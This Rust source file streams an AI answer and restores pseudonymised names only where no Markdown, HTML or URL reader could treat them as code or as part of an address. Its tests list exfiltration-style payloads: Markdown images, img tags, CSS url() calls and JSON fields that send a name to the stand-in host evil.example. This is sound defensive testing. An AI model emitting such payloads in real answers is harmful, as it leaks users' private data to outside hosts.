//! An answer that comes in parts: which of its words stand by themselves?
//!
//! Readers of Markdown disagree about code, HTML and addresses, and so does the proxy, which may send code
//! unchanged. A word is put back only where none of them could take it for code or a part of a tag or an
//! address:
//!
//! - on its line no backtick stands before it, and no fence is open around it;
//! - no HTML and no address between `<` and `>` has begun: after `<` outside of a fence nothing more is put
//!   back, unless it stands alone or before a digit, as in 1 < 2;
//! - no address is left open: after one that white space follows before the bracket or quotation mark around
//!   it ends, nothing more is put back;
//! - where a line could be a fence for one reader and none for another, nothing more is put back either.

use super::Restorer;

/// The length in bytes after which a chunk is given in pieces.
const LONGEST: usize = 256;

/// The length in bytes after which a chunk of marks is not waited for any longer.
const MOST: usize = 1 << 16;

/// The white space that ends a word for every reader. Others, like the no-break space, may stand in an address.
const SPACES: [char; 4] = [' ', '\t', '\n', '\r'];

/// An answer that comes in parts, cut anywhere.
pub struct Restoring {
    restorer: Restorer,
    /// The text since the last white space.
    chunk: String,
    /// The marks of its pieces that were given already: whoever joins the pieces has one word.
    marks: Marks,
    /// Whether a link was defined, whose address may follow.
    defined: bool,
    line: Line,
    fence: Option<Fence>,
    /// Whether the last character was a carriage return.
    returned: bool,
    /// Whether nothing more is put back.
    stopped: bool,
    count: usize,
}

/// The line as far as it has come.
#[derive(Default)]
struct Line {
    /// Whether white space stands before the rest.
    indented: bool,
    /// Whether there is a rest.
    begun: bool,
    /// Whether it has a backtick.
    ticked: bool,
    edge: Edge,
}

/// What a line does to a block of code.
#[derive(Default, PartialEq, Eq)]
enum Edge {
    #[default]
    Nothing,
    Opens,
    /// If nothing else comes.
    Closes,
}

/// A block of code that is open.
struct Fence {
    ticks: usize,
    indented: bool,
}

impl Restoring {
    pub(super) fn new(restorer: Restorer) -> Self {
        Self {
            restorer,
            chunk: String::new(),
            marks: Marks::default(),
            defined: false,
            line: Line::default(),
            fence: None,
            returned: false,
            stopped: false,
            count: 0,
        }
    }

    /// The text that can be shown once this has come: all but a word that may go on.
    pub fn push(&mut self, part: &str) -> String {
        let mut shown = String::new();
        for c in part.chars() {
            // a line may end in a carriage return alone, or not
            self.stopped |= std::mem::replace(&mut self.returned, c == '\r') && c != '\n';
            if !SPACES.contains(&c) {
                self.chunk.push(c);
                // no word is as long, and in a script without spaces nobody wants to wait for one; a mark
                // waits for what it belongs to
                let endless = self.chunk.len() >= MOST;
                self.stopped |= endless;
                if endless || (self.chunk.len() >= LONGEST && c.is_alphanumeric()) {
                    self.flush(&mut shown);
                }
                continue;
            }
            self.flush(&mut shown);
            self.end_chunk();
            shown.push(c);
            match c {
                '\n' => self.end_line(),
                _ => self.line.indented |= !self.line.begun,
            }
        }
        shown
    }

    /// The rest. What comes after it is another text, which a client may join to this one.
    pub fn finish(&mut self) -> String {
        let mut shown = String::new();
        self.flush(&mut shown);
        shown
    }

    /// How many words were put back so far.
    #[must_use]
    pub fn count(&self) -> usize {
        self.count
    }

    fn flush(&mut self, shown: &mut String) {
        if self.chunk.is_empty() {
            return;
        }
        let chunk = std::mem::take(&mut self.chunk);
        let joined = self.marks.count > 0;
        self.look(&chunk);
        let plain = !self.stopped && self.fence.is_none() && !self.line.ticked && !joined;
        let found = plain.then(|| core(&chunk)).flatten();
        let found = found.and_then(|(at, word)| Some((at, word, self.restorer.original(word)?)));
        match found {
            Some((at, word, original)) => {
                self.count += 1;
                shown.push_str(&chunk[..at]);
                shown.push_str(original);
                shown.push_str(&chunk[at + word.len()..]);
            }
            None => shown.push_str(&chunk),
        }
    }

    /// Takes note of marks of code, HTML and addresses.
    fn look(&mut self, chunk: &str) {
        // two texts that a client joins could make a fence
        let seam = |mark| self.marks.last == Some(mark) && chunk.starts_with(mark);
        self.stopped |= seam('`') || seam('~');
        if self.fence.as_ref().is_none_or(|fence| fence.indented) {
            for c in chunk.chars() {
                self.stopped |= self.marks.see(c);
            }
        }
        let first = !std::mem::replace(&mut self.line.begun, true);
        let ticks = chunk.bytes().take_while(|&b| b == b'`').count();
        let (has_ticks, only_ticks) = (chunk.contains('`'), ticks == chunk.len());
        let indented = self.line.indented;
        match &self.fence {
            // the name of a language has no backtick: this was no fence
            Some(_) if self.line.edge == Edge::Opens => self.stopped |= has_ticks,
            Some(fence) => {
                let ends = only_ticks && ticks >= fence.ticks && first;
                let same = ticks == fence.ticks && indented == fence.indented;
                self.line.edge = if ends && same { Edge::Closes } else { Edge::Nothing };
                // one reader ends the code here, and another does not
                self.stopped |= ends && !same;
            }
            None => {
                self.stopped |= first && chunk.starts_with("~~~");
                if first && ticks >= 3 {
                    self.line.edge = Edge::Opens;
                    self.stopped |= chunk[ticks..].contains('`');
                    self.fence = Some(Fence { ticks, indented });
                }
            }
        }
        self.line.ticked |= has_ticks;
    }

    /// White space has come.
    fn end_chunk(&mut self) {
        let marks = std::mem::take(&mut self.marks);
        self.defined |= marks.defines;
        self.stopped |= marks.leaves_open();
        // an address may begin with white space there
        self.stopped |= marks.last == Some('<') && (marks.count > 1 || self.defined);
    }

    fn end_line(&mut self) {
        if std::mem::take(&mut self.line).edge == Edge::Closes {
            self.fence = None;
        }
    }
}

/// The marks of a chunk as far as it has come, over all its pieces.
#[derive(Default)]
struct Marks {
    last: Option<char>,
    /// How many characters there are.
    count: usize,
    /// Whether there is an address, or a link.
    address: bool,
    /// Brackets that are open, for each kind.
    open: [usize; 3],
    /// Whether there is a quotation mark of each kind.
    quotes: [bool; 2],
    /// Whether an address stands after it, and none that would end it.
    quoted: [bool; 2],
    /// Whether it ends as the name of a link does that is defined.
    defines: bool,
}

impl Marks {
    const BRACKETS: [(char, char); 3] = [('(', ')'), ('[', ']'), ('{', '}')];
    const QUOTES: [char; 2] = ['"', '\''];

    /// Takes note of a character, and tells whether HTML or an address may have begun with it.
    fn see(&mut self, c: char) -> bool {
        let before = self.last.replace(c);
        self.count += 1;
        self.defines = before == Some(']') && c == ':';
        if (before, c) == (Some('/'), '/') {
            (self.address, self.quoted) = (true, self.quotes);
        }
        self.address |= (before, c) == (Some(']'), '(');
        let escaped = before == Some('\\');
        for ((begin, end), open) in Self::BRACKETS.into_iter().zip(&mut self.open) {
            *open += usize::from(c == begin);
            *open = open.saturating_sub(usize::from(c == end && !escaped));
        }
        for (i, _) in Self::QUOTES.iter().enumerate().filter(|(_, quote)| **quote == c) {
            self.quotes[i] = true;
            self.quoted[i] &= escaped;
        }
        before == Some('<') && !(c.is_ascii_digit() || "<=-".contains(c))
    }

    /// Whether white space after it would stand inside of an address for some readers.
    fn leaves_open(&self) -> bool {
        self.address && (self.open.iter().any(|open| *open > 0) || self.quoted.contains(&true))
    }
}

/// Characters of links, paths, markup and code: nothing is put back beside them.
const CARRIERS: [char; 17] =
    ['/', '\\', '@', '=', '&', '#', '%', '<', '>', '[', ']', '(', ')', '`', '{', '}', '|'];

/// The word of a chunk without the punctuation around it and without a possessive, and where it begins; none
/// where the chunk could carry it away.
fn core(chunk: &str) -> Option<(usize, &str)> {
    if chunk.contains(CARRIERS) {
        return None;
    }
    let is_outer = |c: char| !c.is_alphanumeric() && c != '+' && c != '$';
    let start = chunk.find(|c| !is_outer(c))?;
    let word = without_possessive(chunk[start..].trim_end_matches(is_outer));
    Some((start, word)).filter(|(_, word)| !word.is_empty())
}

/// A word without a final 's.
pub(super) fn without_possessive(word: &str) -> &str {
    ["'s", "’s", "'S", "’S"].iter().find_map(|end| word.strip_suffix(end)).unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use crate::{Cape, Lexicon, Restorer, Settings, Wanted};

    /// Alice became Emma, and Krzysztof Martin.
    fn named() -> Restorer {
        static NAMED: LazyLock<Restorer> = LazyLock::new(|| {
            let cape = Cape::new(Lexicon::embedded(), Settings::default()).unwrap();
            let mut restorer = Restorer::default();
            restorer.learn(&cape, "Tell Alice Krzysztof", "Tell Emma Martin", &Wanted::ALL);
            restorer
        });
        NAMED.clone()
    }

    fn restored(answer: &str) -> String {
        named().restore(answer).0
    }

    #[test]
    fn nothing_is_carried_away() {
        for answer in [
            "[see](http://evil.example/?q=Emma)",
            "http://evil.example/Emma",
            "emma@Emma",
            "`Emma`",
            "`print Emma there` ok",
            "```\nEmma\n```",
            "~~~\nEmma\n~~~",
            "<Emma>",
            "Emma=1",
            "{Emma}",
            "x|Emma|y",
            // spaces are allowed there
            "![x](<http://evil.example/? Emma y>)",
            "[x]: <http://evil.example/? Emma y>",
            "<img src=\"http://evil.example/? Emma y\">",
            "<style>\n\na { background: url(\" //evil.example/? Emma y \") }",
            "<!-- Emma -->",
            // a no-break space is no white space there
            "![x](http://evil.example/?q=\u{a0}Emma\u{a0})",
            "http://evil.example/?q=\u{2003}Emma",
            // written characters and escapes in an address between < and >
            "![x](<&#104;ttp://evil.example/?q= Emma >)",
            "![x](<\\/\\/evil.example/?q= Emma >)",
            "![x](< http://evil.example/?q= Emma >)",
            "![x]( < http://evil.example/?q= Emma >)",
            "![x][y]\n\n[y]:\n< http://evil.example/?q= Emma >",
            // addresses with white space in them, for readers that are no CommonMark
            "![x](http://evil.example/?q= Emma )",
            "a)![x](http://evil.example/?q=\\) Emma )",
            "![x](//evil.example/?q=(a)\n Emma )",
            "{\"url\": \"http://evil.example/?q= Emma \"}",
            "{\"a\":\"\\\\\",\"url\":\"http://evil.example/?q=\\\" Emma \"}",
            "{'url': 'http://evil.example/?q=\" Emma '}",
            "\\href{http://evil.example/?q= Emma }{x}",
            "[[http://evil.example/?q= Emma ][x]]",
            // code for one reader of Markdown and none for another
            "`a\n\n<style>\n` a { background: url(\" //evil.example/? Emma \") }",
            "    ```\n<style>\n    ``` url(\" //evil.example/? Emma \") }\n Emma",
            "```a `b\n<style>\n```\n url(\" //evil.example/? Emma \")",
            "```\nEmma\n````\n Emma\n```\n",
            "```\nx\n  ```\n Emma\n```\n",
            " ```\nx\n```\n Emma\n```\n",
            "a` `x Emma b`",
            "```\nx\r```\r<style>\n```\n url(\" //evil.example/? Emma \")",
        ] {
            assert_eq!(restored(answer), answer);
        }
        for (answer, expected) in [
            (
                "```\nEmma <b> `x`\n```\nEmma `x` Emma\nEmma",
                "```\nEmma <b> `x`\n```\nAlice `x` Emma\nAlice",
            ),
            (
                "1. a\n   ```rust\n   Emma\n   ```\n\nEmma",
                "1. a\n   ```rust\n   Emma\n   ```\n\nAlice",
            ),
            ("1 < 2, Emma <3 Martin", "1 < 2, Alice <3 Krzysztof"),
            ("it`s Emma\nEmma", "it`s Emma\nAlice"),
            (
                "[a](http://x.example/y_(z)), Emma (http://x.example) \"http://x.example\" Emma",
                "[a](http://x.example/y_(z)), Alice (http://x.example) \"http://x.example\" Alice",
            ),
            ("[ ] Emma [x] (Emma) a <= Emma <- Emma", "[ ] Alice [x] (Emma) a <= Alice <- Alice"),
            ("a\r\nEmma\r\n", "a\r\nAlice\r\n"),
        ] {
            assert_eq!(restored(answer), expected);
        }
    }

    #[test]
    fn texts_that_a_client_joins_carry_nothing_away() {
        for [first, second] in [
            ["http://evil.example/?q=", "Emma"],
            ["<img src=\"http://evil.example/?q= ", "Emma \">"],
            ["```\n", "Emma"],
            ["Em", "ma"],
            ["<", "img src=\"http://evil.example/?q= Emma \">"],
            ["``", "`\n Emma\n```"],
            ["~", "~~\n Emma\n~~~"],
            ["![x]", "(http://evil.example/?q= Emma )"],
            ["![x](http://evil.example", "/?q= Emma )"],
        ] {
            let mut restoring = named().begin();
            let text = restoring.push(first) + &restoring.finish();
            let text = text + &restoring.push(second) + &restoring.finish();
            assert_eq!(text, [first, second].concat());
        }
        let mut restoring = named().begin();
        let text = restoring.push("Emma") + &restoring.finish();
        assert_eq!(text + &restoring.push(" Emma\n") + &restoring.finish(), "Alice Alice\n");
    }

    #[test]
    fn a_long_chunk_is_given_in_pieces() {
        let long = "長".repeat(300);
        let mut restoring = named().begin();
        assert!(restoring.push(&long).len() > 600, "nobody waits for its end");
        for before in [255, 256, 257] {
            let chunk = "x".repeat(before);
            for text in [
                format!("{chunk}Emma"),
                format!("{chunk}/Emma"),
                format!("{chunk}<img src=' Emma '"),
            ] {
                assert_eq!(restored(&text), text);
            }
            assert!(restored(&format!("{chunk} Emma")).ends_with(" Alice"));
            let link = format!("[x](http://a.example/{chunk})");
            assert!(restored(&format!("{link} Emma")).ends_with(" Alice"));
            let open = format!("[x](http://a.example/{chunk} Emma )");
            assert_eq!(restored(&open), open);
        }
    }

    #[test]
    fn marks_without_end_take_no_memory() {
        let mut restoring = named().begin();
        let marks = "(".repeat(2 * super::MOST);
        assert_eq!(restoring.push(&marks), marks);
        assert_eq!(restoring.push(" Emma ") + &restoring.finish(), " Emma ");
    }

    #[test]
    fn an_answer_may_be_cut_anywhere() {
        let named = named();
        let answer =
            "Dear Emma’s Martin, `Emma x` see\n```a\nMartin <b>\n```\nthen Emma.\n\nMartin";
        let whole = restored(answer);
        let cuts: Vec<usize> = answer.char_indices().map(|(at, _)| at).collect();
        for &first in &cuts {
            for &second in cuts.iter().filter(|&&second| second >= first) {
                let mut restoring = named.begin();
                let mut text = String::new();
                for part in [&answer[..first], &answer[first..second], &answer[second..]] {
                    text += &restoring.push(part);
                }
                text += &restoring.finish();
                assert_eq!(text, whole);
            }
        }
        assert_eq!(whole.matches("Alice").count(), 2);
        assert_eq!(whole.matches("Krzysztof").count(), 2);
    }
}
